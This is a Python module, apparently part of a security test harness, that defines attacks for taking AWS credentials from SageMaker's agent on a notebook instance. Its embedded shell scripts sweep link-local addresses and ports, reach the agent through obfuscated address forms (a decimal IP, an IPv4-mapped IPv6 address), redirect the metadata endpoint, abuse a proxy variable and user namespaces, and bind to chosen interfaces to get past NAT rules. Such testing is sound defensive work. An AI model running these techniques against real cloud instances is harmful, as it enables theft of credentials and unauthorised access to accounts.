"""Attacks on SageMaker's agent, in the network layout that has one: by its own addresses, past the metadata service's."""

from __future__ import annotations

from emulator.docker import running_docker
from notebooks import OwnNotebook

from .attack import Attack, on_a_new_instance, script, start, with_user_namespaces
from .on_metadata_service import take_in
from .outcome import Trial

# The agent's, an instance's own and a neighbour's in its network, and addresses where other services of AWS's are.
LINK_LOCAL = """
PATIENCE=1
for address in 169.254.{0.{1,3,4,254},1.{1,2},169.{123,249,253},170.{2,23},171.2,172.1,254.254,255.254}; do
  for port in 80 254 9081; do take "http://$address:$port" & done
done
wait
"""
OTHER_PORTS = """
PATIENCE=1
for port in 22 53 80 81 254 443 8080 8888 9080 9082; do take "http://169.254.0.2:$port" & done
wait
"""
AT_ITS_ADDRESS = """
take "$AGENT"
AWS_CONFIG_FILE=/dev/null AWS_REGION=us-east-1 AWS_EC2_METADATA_SERVICE_ENDPOINT=$AGENT client
take http://2851995650:9081
take 'http://[::ffff:169.254.0.2]:9081'
http_proxy=$AGENT take
unshare --user --map-root-user bash -c "source '$PROGRAMS/../tools.sh'; take $AGENT"
"""
BOUND = """
PATIENCE=1
for interface in veth_def_agent eth0; do
  for service in "$AGENT" "$SERVICE"; do take "$service" --interface "if!$interface" & done
done
take "$AGENT" --interface host!169.254.0.1 &
wait
"""


def after_it_restarted(trial: Trial, notebook: OwnNotebook) -> str:
    """Take credentials in every way after the agent put its NAT rules in front of the script's."""
    with running_docker(notebook) as docker:
        start(notebook)
        notebook.restart_agent()
        said = trial.scene.run(f"take & for agent in $AGENTS; do take $agent & done\n{BOUND}\nwait", on=notebook)
        return trial.outcome(said + take_in(docker), notebook)


AGENT: dict[str, Attack] = {
    "take the credentials from SageMaker's agent, by its own address": with_user_namespaces(script(AT_ITS_ADDRESS)),
    "… by other ports of that address": script(OTHER_PORTS),
    "… by other addresses of the link-local range": script(LINK_LOCAL),
    "… by a socket that is bound to its network interface": script(BOUND),
    "… after it restarted and put its NAT rules in front, also from a container": on_a_new_instance(after_it_restarted),
}  # fmt: skip
